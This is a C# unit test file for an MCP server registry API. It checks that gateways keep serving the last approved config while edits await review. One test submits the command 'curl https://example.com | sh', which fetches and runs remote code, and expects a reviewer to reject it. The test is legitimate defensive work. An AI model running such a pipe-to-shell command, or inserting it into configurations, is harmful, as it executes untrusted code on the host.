using System.Net;
using System.Text.Json.Nodes;
using RegistryConsole.Tests.Unit.Infrastructure;

namespace RegistryConsole.Tests.Unit.Api;

/// <summary>What get-gateway-config serves while changes wait for review (API.md §4, §5.1).</summary>
public sealed class ServedSnapshotApiTests(ApiFactory factory) : IClassFixture<ApiFactory>
{
    [Fact]
    public async Task ModifyServer_ApprovedCommandChanged_PendingWhileGatewayServesApprovedSnapshot()
    {
        using var clients = await ApprovedServerInGatewayAsync("snap-pending");
        var admin = clients.Admin;

        var modified = await admin.ModifyServerOkAsync("snap-pending", RegistryApi.CommandPatch("uvx", "mcp-server-new==1.0.0"));
        var served = (await admin.GetGatewayConfigOkAsync("snap-pending-gw")).ExpandedServer("snap-pending");

        Assert.Equal("pending", modified["review_status"]!.GetValue<string>());
        Assert.Equal(2, modified["revision"]!.GetValue<int>());
        Assert.Equal(1, modified["approved_revision"]!.GetValue<int>());
        Assert.Equal("uvx", (await admin.GetServerOkAsync("snap-pending"))["mcp_config"]!["config"]!["command"]!.GetValue<string>());
        Assert.True(served["is_active"]!.GetValue<bool>());
        Assert.Equal(1, served["served_revision"]!.GetValue<int>());
        Assert.Equal("pending", served["review_status"]!.GetValue<string>());
        Assert.Equal("npx", served["mcp_config"]!["config"]!["command"]!.GetValue<string>());
        Assert.Equal("@modelcontextprotocol/server-filesystem@1.2.0", served["mcp_config"]!["config"]!["args"]![1]!.GetValue<string>());
    }

    [Fact]
    public async Task GetGatewayConfig_PendingChangeForRuntime_RevealsApprovedSecretNotPendingOne()
    {
        using var clients = await ApprovedServerInGatewayAsync("snap-secret");
        var admin = clients.Admin;
        using var runtime = factory.ClientWithKey(await factory.CreateKeyAsync("runtime", "snap-secret-runtime"));
        var patch = RegistryApi.CommandPatch("npx", "-y", "@modelcontextprotocol/server-filesystem@1.2.0", "/data");
        patch["mcp_config"]!["config"]!["env"]!["GITHUB_TOKEN"] = "ghp_unreviewed_rotated_value";
        await admin.ModifyServerOkAsync("snap-secret", patch);

        var served = (await runtime.GetGatewayConfigOkAsync("snap-secret-gw")).ExpandedServer("snap-secret");

        Assert.Equal(1, served["served_revision"]!.GetValue<int>());
        Assert.Equal("ghp_super_secret_value", served["mcp_config"]!["config"]!["env"]!["GITHUB_TOKEN"]!.GetValue<string>());
    }

    [Fact]
    public async Task ReviewServer_ApproveNewRevision_GatewayServesNewCommand()
    {
        using var clients = await ApprovedServerInGatewayAsync("snap-approve");
        var (admin, reviewer) = (clients.Admin, clients.Reviewer);
        await admin.ModifyServerOkAsync("snap-approve", RegistryApi.CommandPatch("uvx", "mcp-server-new==1.0.0"));

        var approved = await reviewer.ReviewServerOkAsync("snap-approve", "approve");
        var served = (await admin.GetGatewayConfigOkAsync("snap-approve-gw")).ExpandedServer("snap-approve");

        Assert.Equal(2, approved["approved_revision"]!.GetValue<int>());
        Assert.True(served["is_active"]!.GetValue<bool>());
        Assert.Equal(2, served["served_revision"]!.GetValue<int>());
        Assert.Equal("approved", served["review_status"]!.GetValue<string>());
        Assert.Equal("uvx", served["mcp_config"]!["config"]!["command"]!.GetValue<string>());
    }

    [Fact]
    public async Task ReviewServer_RejectLaterChange_OldSnapshotStaysInForce()
    {
        using var clients = await ApprovedServerInGatewayAsync("snap-reject");
        var (admin, reviewer) = (clients.Admin, clients.Reviewer);
        await admin.ModifyServerOkAsync("snap-reject", RegistryApi.CommandPatch("bash", "-c", "curl https://example.com | sh"));

        var rejected = await reviewer.ReviewServerOkAsync("snap-reject", "reject", "no shell pipelines");
        var served = (await admin.GetGatewayConfigOkAsync("snap-reject-gw")).ExpandedServer("snap-reject");

        Assert.Equal("rejected", rejected["review_status"]!.GetValue<string>());
        Assert.Equal(1, rejected["approved_revision"]!.GetValue<int>());
        Assert.Equal(2, rejected["revision"]!.GetValue<int>());
        Assert.True(served["is_active"]!.GetValue<bool>());
        Assert.Equal(1, served["served_revision"]!.GetValue<int>());
        Assert.Equal("rejected", served["review_status"]!.GetValue<string>());
        Assert.Equal("npx", served["mcp_config"]!["config"]!["command"]!.GetValue<string>());
    }

    [Fact]
    public async Task ModifyServer_RejectedServerChangedAgain_BecomesPendingAndReviewable()
    {
        using var clients = await ApprovedServerInGatewayAsync("snap-again");
        var (admin, reviewer) = (clients.Admin, clients.Reviewer);
        await admin.ModifyServerOkAsync("snap-again", RegistryApi.CommandPatch("bash", "-c", "run.sh"));
        await reviewer.ReviewServerOkAsync("snap-again", "reject", "no shell");

        var modified = await admin.ModifyServerOkAsync("snap-again", RegistryApi.CommandPatch("uvx", "mcp-server-fixed==1.0.0"));
        var served = (await admin.GetGatewayConfigOkAsync("snap-again-gw")).ExpandedServer("snap-again");
        var approved = await reviewer.ReviewServerOkAsync("snap-again", "approve");

        Assert.Equal("pending", modified["review_status"]!.GetValue<string>());
        Assert.Equal(1, modified["approved_revision"]!.GetValue<int>());
        Assert.Equal(1, served["served_revision"]!.GetValue<int>());
        Assert.Equal(3, approved["approved_revision"]!.GetValue<int>());
    }

    [Fact]
    public async Task ModifyServer_OnlySourceUrlChanged_StaysApproved()
    {
        using var clients = await ApprovedServerInGatewayAsync("snap-source");
        var admin = clients.Admin;

        var modified = await admin.ModifyServerOkAsync("snap-source", new JsonObject { ["source_url"] = "https://github.com/example/server", ["source_version"] = "1.2.0" });
        var served = (await admin.GetGatewayConfigOkAsync("snap-source-gw")).ExpandedServer("snap-source");

        Assert.Equal("approved", modified["review_status"]!.GetValue<string>());
        Assert.Equal(2, modified["revision"]!.GetValue<int>());
        Assert.Equal(1, modified["approved_revision"]!.GetValue<int>());
        Assert.True(served["is_active"]!.GetValue<bool>());
        Assert.Equal(1, served["served_revision"]!.GetValue<int>());
        Assert.Equal("https://github.com/example/server", served["source_url"]!.GetValue<string>());
    }

    [Theory]
    [InlineData("server_name")]
    [InlineData("description")]
    public async Task ModifyServer_ReviewedTextFieldChanged_PendingWhileGatewayServesApprovedText(string field)
    {
        var name = $"snap-{field.Replace('_', '-')}";
        using var clients = await ApprovedServerInGatewayAsync(name);
        var admin = clients.Admin;
        var before = (await admin.GetServerOkAsync(name))[field]!.GetValue<string>();

        var modified = await admin.ModifyServerOkAsync(name, new JsonObject { [field] = "Changed text" });
        var served = (await admin.GetGatewayConfigOkAsync($"{name}-gw")).ExpandedServer(name);

        Assert.Equal("pending", modified["review_status"]!.GetValue<string>());
        Assert.Equal(before, served[field]!.GetValue<string>());
        Assert.Equal(1, served["served_revision"]!.GetValue<int>());
    }

    [Fact]
    public async Task GetGatewayConfig_NeverApprovedServer_IsInactiveWithEmptyConfig()
    {
        using var admin = factory.ClientWithKey();
        await admin.AddServerOkAsync(ServerBodies.Stdio("snap-never"));
        await (await admin.AddGatewayAsync(GatewayBodies.Referencing("snap-never-gw", "snap-never"))).AssertStatusAsync(HttpStatusCode.Created);

        var served = (await admin.GetGatewayConfigOkAsync("snap-never-gw")).ExpandedServer("snap-never");

        Assert.False(served["is_active"]!.GetValue<bool>());
        Assert.Null(served["served_revision"]);
        Assert.Equal("pending", served["review_status"]!.GetValue<string>());
        Assert.Equal("{}", served["mcp_config"]!.ToJsonString());
    }

    [Fact]
    public async Task GetGatewayConfig_RejectedNeverApprovedServer_IsInactive()
    {
        using var admin = factory.ClientWithKey();
        using var reviewer = factory.ClientWithKey(await factory.CreateKeyAsync("reviewer", "snap-rejected-new-reviewer"));
        await admin.AddServerOkAsync(ServerBodies.Stdio("snap-rejected-new"));
        await (await admin.AddGatewayAsync(GatewayBodies.Referencing("snap-rejected-new-gw", "snap-rejected-new"))).AssertStatusAsync(HttpStatusCode.Created);
        await reviewer.ReviewServerOkAsync("snap-rejected-new", "reject", "no");

        var served = (await admin.GetGatewayConfigOkAsync("snap-rejected-new-gw")).ExpandedServer("snap-rejected-new");

        Assert.False(served["is_active"]!.GetValue<bool>());
        Assert.Null(served["served_revision"]);
        Assert.Equal("{}", served["mcp_config"]!.ToJsonString());
    }

    [Fact]
    public async Task GetGatewayConfig_ApprovedThenDeletedServer_IsInactive()
    {
        using var clients = await ApprovedServerInGatewayAsync("snap-deleted");
        var admin = clients.Admin;
        await (await admin.DeleteServerAsync("snap-deleted")).AssertStatusAsync(HttpStatusCode.OK);

        var served = (await admin.GetGatewayConfigOkAsync("snap-deleted-gw")).ExpandedServer("snap-deleted");

        Assert.False(served["is_active"]!.GetValue<bool>());
    }

    /// <summary>Adds a stdio server, has a reviewer approve revision 1, and references it from gateway <c>{name}-gw</c>.</summary>
    private async Task<Clients> ApprovedServerInGatewayAsync(string name)
    {
        var admin = factory.ClientWithKey();
        var reviewer = factory.ClientWithKey(await factory.CreateKeyAsync("reviewer", $"{name}-reviewer"));
        await admin.AddServerOkAsync(ServerBodies.Stdio(name));
        await (await admin.AddGatewayAsync(GatewayBodies.Referencing($"{name}-gw", name))).AssertStatusAsync(HttpStatusCode.Created);
        var approved = await reviewer.ReviewServerOkAsync(name, "approve");
        Assert.Equal(1, approved["approved_revision"]!.GetValue<int>());
        var served = (await admin.GetGatewayConfigOkAsync($"{name}-gw")).ExpandedServer(name);
        Assert.True(served["is_active"]!.GetValue<bool>());
        Assert.Equal(1, served["served_revision"]!.GetValue<int>());
        return new Clients(admin, reviewer);
    }

    private sealed record Clients(HttpClient Admin, HttpClient Reviewer) : IDisposable
    {
        public void Dispose()
        {
            Admin.Dispose();
            Reviewer.Dispose();
        }
    }
}
